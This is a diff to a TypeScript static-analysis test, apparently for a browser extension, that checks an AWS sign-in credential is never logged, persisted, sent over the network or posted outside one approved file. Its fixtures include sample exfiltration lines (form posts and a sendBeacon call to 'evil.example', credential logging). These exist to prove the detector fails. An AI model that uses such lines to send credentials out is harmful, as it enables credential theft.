@@ -1,7 +1,7 @@
 // The assertion is a bearer credential (REFERENCE.md §1): it may live in storage.session and go to
 // an allowlisted AWS sign-in endpoint, nowhere else. This test reads every source file under src/
 // and fails when code could write it to persistent storage, log it, send it over the network, or
-// post it other than through src/pages/picker/post-form.ts with a SigninPost from buildSigninPost.
+// post it other than through src/pages/picker/signin/post-form.ts with a SigninPost from buildSigninPost.
 // It is static analysis over the text, so it is deliberately strict and simple: each rule below is
 // also run on a crafted bad example, to prove it can fail. See SECURITY.md for the threat model.
 import { readdirSync, readFileSync } from 'node:fs';
@@ -26,8 +26,8 @@ interface Violation {
 }
 
 /** The one file allowed to submit a form, and the module that builds what it submits. */
-const POST_FORM = 'src/pages/picker/post-form.ts';
-const SIGNIN_POST = 'src/core/signin-post.ts';
+const POST_FORM = 'src/pages/picker/signin/post-form.ts';
+const SIGNIN_POST = 'src/core/signin/repost.ts';
 
 /**
  * The one file allowed to hand the assertion to the network besides post-form.ts: the worker's STS
@@ -310,8 +310,8 @@ function findViolations(files: readonly SourceFile[]): Violation[] {
   const postForm = files.find((f) => f.path === POST_FORM);
   if (postForm) {
     const code = codeOnly(postForm.text, true);
-    if (!/\bimport\s+(?:type\s+\{[^}]*\bSigninPost\b[^}]*\}|\{[^}]*\btype\s+SigninPost\b[^}]*\})\s+from\s+['"]\.\.\/\.\.\/core\/signin-post['"]/.test(code)) {
-      add('form-post', postForm, 0, 'post-form.ts must take its input type, SigninPost, from core/signin-post.ts');
+    if (!/\bimport\s+(?:type\s+\{[^}]*\bSigninPost\b[^}]*\}|\{[^}]*\btype\s+SigninPost\b[^}]*\})\s+from\s+['"](?:\.\.\/)+core\/signin\/repost['"]/.test(code)) {
+      add('form-post', postForm, 0, 'post-form.ts must take its input type, SigninPost, from core/signin/repost.ts');
     }
     if (!/export\s+function\s+submitSigninPost\s*\(\s*post\s*:\s*SigninPost\s*\)/.test(code)) {
       add('form-post', postForm, 0, 'post-form.ts must export submitSigninPost(post: SigninPost) and nothing that takes a looser input');
@@ -356,7 +356,7 @@ describe('the assertion never leaks (static analysis of src/)', () => {
       expect(paths).toContain(expected);
     }
     const handling = SOURCES.filter((f) => HANDLES_ASSERTION.test(codeOnly(f.text, true))).map((f) => f.path);
-    expect(handling).toEqual(expect.arrayContaining([POST_FORM, 'src/pages/picker/sign-in.ts', 'src/platform/session-store.ts', 'src/platform/signin-capture.ts']));
+    expect(handling).toEqual(expect.arrayContaining([POST_FORM, 'src/pages/picker/signin/sign-in.ts', 'src/platform/session-store.ts', 'src/platform/signin-capture.ts']));
   });
 
   it('writes nothing that handles the assertion to storage.local, storage.sync or other persistent storage', () => {
@@ -380,8 +380,8 @@ describe('the assertion never leaks (static analysis of src/)', () => {
  * Where STS credentials may appear at all: the readers and builders in core, the worker's sign-in,
  * and the CLI credentials the user asked for (their reply type, their formats, the picker's view).
  */
-const CLI_VIEW = 'src/pages/picker/CliCredentials.tsx';
-const CREDENTIAL_FILES = ['src/core/sts.ts', 'src/core/federation.ts', STS_CALLS, STS_SIGNIN, 'src/core/cli-credentials.ts', 'src/messages/protocol.ts', CLI_VIEW];
+const CLI_VIEW = 'src/pages/picker/cli/cli-credentials.tsx';
+const CREDENTIAL_FILES = ['src/core/signin/sts.ts', 'src/core/signin/federation.ts', STS_CALLS, STS_SIGNIN, 'src/core/signin/cli-credentials.ts', 'src/messages/protocol.ts', CLI_VIEW];
 const CREDENTIAL_WORDS = /\b(?:secretAccessKey|sessionToken|SecretAccessKey|SessionToken|StsCredentials)\b/g;
 
 function credentialMentions(files: readonly SourceFile[]): string[] {
@@ -423,7 +423,7 @@ describe('each rule fails on a bad example', () => {
   const goodPostForm: SourceFile = {
     path: POST_FORM,
     text: [
-      "import type { SigninPost } from '../../core/signin-post';",
+      "import type { SigninPost } from '../../../core/signin/repost';",
       'export function submitSigninPost(post: SigninPost): void {',
       "  const form = document.createElement('form');",
       '  form.action = post.url;',
@@ -488,12 +488,12 @@ describe('each rule fails on a bad example', () => {
         {
           ...goodPostForm,
           text: goodPostForm.text
-            .replace("import type { SigninPost } from '../../core/signin-post';", "import type { Url } from './url';")
+            .replace("import type { SigninPost } from '../../../core/signin/repost';", "import type { Url } from './url';")
             .replace('post: SigninPost', 'post: Url')
             .replace('form.action = post.url', 'form.action = url'),
         },
         { path: 'src/pages/picker/other.ts', text: "const f = document.createElement('form');\nf.action = 'https://evil.example';\nf.submit();" },
-        { path: 'src/pages/picker/sign-in.ts', text: "const post = { url: 'https://evil.example' } as SigninPost;\nsubmitSigninPost(post);" },
+        { path: 'src/pages/picker/signin/sign-in.ts', text: "const post = { url: 'https://evil.example' } as SigninPost;\nsubmitSigninPost(post);" },
         { path: 'src/pages/picker/index.html', text: '<form method="post" action="https://evil.example"></form>' },
       ],
       'form-post',
@@ -506,18 +506,18 @@ describe('each rule fails on a bad example', () => {
       `${POST_FORM}:1`,
       `${POST_FORM}:1`,
       `${POST_FORM}:4`,
-      'src/pages/picker/sign-in.ts:1',
-      'src/pages/picker/sign-in.ts:2',
+      'src/pages/picker/signin/sign-in.ts:1',
+      'src/pages/picker/signin/sign-in.ts:2',
     ]);
-    const good = [goodPostForm, { path: 'src/pages/picker/sign-in.ts', text: 'let post;\npost = buildSigninPost(request);\nsubmitSigninPost(post);' }];
+    const good = [goodPostForm, { path: 'src/pages/picker/signin/sign-in.ts', text: 'let post;\npost = buildSigninPost(request);\nsubmitSigninPost(post);' }];
     expect(check(good, 'form-post')).toEqual([]);
   });
 
   it.each([
-    ['logging', 'src/pages/picker/sign-in.ts', 'console.info(post);'],
+    ['logging', 'src/pages/picker/signin/sign-in.ts', 'console.info(post);'],
     ['persistent-storage', 'src/platform/session-store.ts', 'void browser.storage.local.set({ capture: "x" });'],
-    ['network', 'src/pages/picker/load-signin.ts', "void navigator.sendBeacon('https://evil.example/');"],
-    ['form-post', 'src/pages/picker/StateViews.tsx', 'document.forms[0]?.submit();'],
+    ['network', 'src/pages/picker/views/load-signin.ts', "void navigator.sendBeacon('https://evil.example/');"],
+    ['form-post', 'src/pages/picker/views/state-views.tsx', 'document.forms[0]?.submit();'],
   ] as const)('%s: catches one line added to the real %s', (rule, path, line) => {
     const mutated = SOURCES.map((f) => (f.path === path ? { ...f, text: `${f.text}\n${line}\n` } : f));
     const addedAt = `${path}:${SOURCES.find((f) => f.path === path)!.text.split('\n').length + 1}`;
